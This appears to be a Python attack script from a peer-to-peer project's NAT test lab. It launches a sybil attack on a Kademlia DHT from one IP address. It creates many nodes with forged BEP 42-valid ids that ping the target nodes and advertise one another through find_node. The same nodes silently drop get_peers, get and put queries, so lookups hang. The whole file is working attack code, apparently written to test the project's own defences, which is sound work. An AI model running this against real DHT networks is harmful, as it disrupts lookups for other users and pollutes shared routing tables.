#!/usr/bin/env python3
# Potluck — the real cloud, made of everyone's idle machines. AGPL-3.0-or-later.
"""A sybil attacker for the NAT lab (issue 20): many DHT nodes behind one public address.

It binds COUNT UDP ports on ADDRESS, each a node whose id is BEP 42-valid for ADDRESS (as an
attacker who knows the rule makes them), and for SECONDS pings every TARGET (HOST:PORT) from
every port, once a second. Its nodes look alive: they answer `ping` and `find_node` (naming
one another, to spread), and they are a black hole for everything else (`get_peers`, `get`,
`put`), so a lookup that reaches one waits for its timeout. It prints `PORT ID` for each node,
then `ATTACK DONE` with the datagrams sent and received when the time is up.

Usage: sybil.py ADDRESS COUNT SECONDS TARGET...
"""
import os
import selectors
import socket
import sys
import time


def crc32c(data):
    crc = 0xFFFFFFFF
    for byte in data:
        crc ^= byte
        for _ in range(8):
            crc = (crc >> 1) ^ (0x82F63B78 if crc & 1 else 0)
    return crc ^ 0xFFFFFFFF


def bep42_id(address):
    """A node id BEP 42 accepts for the IPv4 `address`."""
    ip = int.from_bytes(socket.inet_aton(address), "big")
    rand = os.urandom(20)
    r = rand[19] & 7
    crc = crc32c(((ip & 0x030F3FFF) | (r << 29)).to_bytes(4, "big"))
    return bytes([crc >> 24 & 0xFF, crc >> 16 & 0xFF, (crc >> 8 & 0xF8) | (rand[2] & 7)]) + rand[3:19] + bytes([r])


def encode(value):
    if isinstance(value, int):
        return b"i%de" % value
    if isinstance(value, bytes):
        return b"%d:%s" % (len(value), value)
    if isinstance(value, list):
        return b"l" + b"".join(encode(item) for item in value) + b"e"
    return b"d" + b"".join(encode(key) + encode(value[key]) for key in sorted(value)) + b"e"


def decode(data, at=0):
    """One bencoded value at `at`: (value, end). Raises on malformed input."""
    kind = data[at:at + 1]
    if kind == b"i":
        end = data.index(b"e", at)
        return int(data[at + 1:end]), end + 1
    if kind in (b"l", b"d"):
        items, at = [], at + 1
        while data[at:at + 1] != b"e":
            item, at = decode(data, at)
            items.append(item)
        return (items if kind == b"l" else dict(zip(items[::2], items[1::2]))), at + 1
    colon = data.index(b":", at)
    start = colon + 1
    return data[start:start + int(data[at:colon])], start + int(data[at:colon])


def compact(host, port):
    return socket.inet_aton(host) + port.to_bytes(2, "big")


def main():
    address, count, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    targets = [(t.rsplit(":", 1)[0], int(t.rsplit(":", 1)[1])) for t in sys.argv[4:]]
    selector = selectors.DefaultSelector()
    nodes = []
    for _ in range(count):
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.bind((address, 0))
        sock.setblocking(False)
        node = (sock, bep42_id(address), sock.getsockname()[1])
        nodes.append(node)
        selector.register(sock, selectors.EVENT_READ, node)
        print(node[2], node[1].hex(), flush=True)
    sent = received = 0
    end = time.monotonic() + seconds
    next_round = time.monotonic()
    while time.monotonic() < end:
        if time.monotonic() >= next_round:
            next_round += 1
            for sock, node_id, _ in nodes:
                for target in targets:
                    query = {b"t": os.urandom(2), b"y": b"q", b"q": b"ping", b"a": {b"id": node_id}}
                    try:
                        sock.sendto(encode(query), target)
                        sent += 1
                    except OSError:
                        pass
        for key, _ in selector.select(timeout=max(0, min(next_round, end) - time.monotonic())):
            sock, node_id, _ = key.data
            try:
                data, source = sock.recvfrom(2048)
                message, _ = decode(data)
            except (OSError, ValueError, IndexError, TypeError):
                continue
            received += 1
            if not isinstance(message, dict) or message.get(b"y") != b"q":
                continue
            method = message.get(b"q")
            reply = {b"id": node_id}
            if method == b"find_node":
                others = [nodes[(hash(data) + i) % len(nodes)] for i in range(8)]
                reply[b"nodes"] = b"".join(other[1] + compact(address, other[2]) for other in others)
            elif method != b"ping":
                continue  # the black hole
            answer = {b"t": message.get(b"t", b""), b"y": b"r", b"r": reply, b"ip": compact(*source)}
            try:
                sock.sendto(encode(answer), source)
                sent += 1
            except OSError:
                pass
    print("ATTACK DONE sent %d received %d" % (sent, received), flush=True)


if __name__ == "__main__":
    main()
